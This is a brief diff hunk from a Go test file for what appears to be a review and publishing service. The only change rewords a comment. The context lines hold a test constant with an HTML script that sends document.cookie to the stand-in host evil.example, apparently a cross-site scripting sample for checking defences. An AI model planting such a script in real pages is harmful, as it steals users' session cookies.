@@ -21,7 +21,7 @@ const publicURL = "https://market.example"
 // page is what runs in the browser of a reviewer who opens it carelessly.
 const page = "<html><script>fetch('https://evil.example/?' + document.cookie)</script></html>"
 
-// links issues links to the files under review.
+// links asks for links to the files under review.
 func (p *publishing) links(review uuid.UUID) client.GetReviewBundleResponse {
 	p.t.Helper()
 	a := p.want(p.send(http.MethodGet, reviewPath(review, "/bundle"), p.reviewer.Key, nil), http.StatusOK, "")
